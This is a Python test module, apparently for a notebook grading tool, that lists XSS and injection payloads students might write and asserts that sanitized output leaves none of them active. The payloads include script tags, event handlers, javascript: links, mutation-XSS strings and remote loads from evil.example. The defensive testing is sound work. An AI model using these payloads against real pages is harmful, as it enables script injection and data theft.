"""What students may write to attack a page, and the proof that none of it runs."""

from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 20).decode()
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="evil()"><script>evil()</script></svg>'

HTML_ATTACKS = [
    "<script>evil()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=evil()>",
    "<img src='https://evil.example/pixel.png'>",
    f"<img src='data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}'>",
    f"<img src='data:image/png;base64,{PNG}' onload=evil()>",
    "<img srcset='https://evil.example/pixel.png 2x'>",
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<iframe src='javascript:evil()'></iframe>",
    SVG,
    "<a href='javascript:evil()'>x</a>",
    "<a href='jav&#x09;ascript:evil()'>x</a>",
    "<a href=' &#14; javascript:evil()'>x</a>",
    "<a href='data:text/html,<script>evil()</script>'>x</a>",
    "<a href='/formgrader/evil'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='vbscript:evil()'>x</a>",
    "<form action='https://evil.example'><input name=a autofocus onfocus=evil()></form>",
    "<button formaction='javascript:evil()'>x</button>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<object data='evil.swf'></object><embed src='evil.swf'>",
    "<video src='https://evil.example/v' onerror=evil()></video>",
    "<details open ontoggle=evil()>x</details>",
    "<table background='https://evil.example/x'><td>x</td></table>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:evil()'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=evil()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=evil()>'>",
    "<template><script>evil()</script></template>",
    "<div id='notebook' class='score tabbable' name='x'>x</div>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<td colspan=99999999>x</td>",
    "</pre></code></div></main><script>evil()</script>",
    "$\\href{javascript:evil()}{x}$",
]
MARKDOWN_ATTACKS = [
    *HTML_ATTACKS,
    "[x](javascript:evil())",
    "[x](<javascript:evil()>)",
    "[x](JaVaScRiPt&colon;evil())",
    "[x][1]\n\n[1]: javascript:evil()",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:evil())",
    "<javascript:evil()>",
    "```\n<script>evil()</script>\n```",
    "<b>x</b>\n\n```\n\n[x](javascript:evil())\n\n<img src=x onerror=evil()>\n```",
    "`<img src=x onerror=evil()>` <b>x</b>",
    "&lt;script&gt;evil()&lt;/script&gt;",
    "&lt;img src=x onerror=evil()&gt; [x](https://ok.example)",
    "\\<script>evil()\\</script>",
    "| a |\n|---|\n| <script>evil()</script> |",
    "![x](attachment:missing.png) <b>x</b>",
    "$$\\class{score}{x}$$",
]
_HARMLESS_TAGS_OF_NO_STUDENT = frozenset({"html", "head", "body", "meta", "title", "style"})


class Page(HTMLParser):
    """What a browser would find in a page."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.script = ""
        self.text = ""
        self._in = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._in = tag

    def handle_endtag(self, tag: str) -> None:
        self._in = ""

    def handle_data(self, data: str) -> None:
        if self._in in ("script", "style"):
            self.script += data
        else:
            self.text += data

    def named(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.tags if name == tag]


def assert_inert(text: str, ours: frozenset[str] = frozenset()) -> Page:
    """Assert that nothing in the text runs or loads anything for the student who wrote it.

    Parameters:
        text: HTML.
        ours: further tags that stem from the page itself, in which a student's word must not occur.
    """
    page = Page(text)
    assert "evil" not in page.script
    for tag, attributes in page.tags:
        if tag in ours:
            assert "evil" not in json.dumps(attributes), (tag, attributes)
            continue
        assert tag not in {
            *("script", "iframe", "object", "embed", "svg", "math", "form", "input", "button"),
            *("link", "base", "video", "audio", "template", "noscript", "frame", "applet"),
        }, tag
        assert not [name for name in attributes if name.startswith("on")], attributes
        assert "srcset" not in attributes and "background" not in attributes
        if "style" in attributes:
            assert "url" not in attributes["style"], attributes
        if "href" in attributes:
            assert re.match(r"#|https?://|mailto:", attributes["href"]), attributes
        if "src" in attributes:
            assert re.match(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/=]*\Z", attributes["src"])
    return page
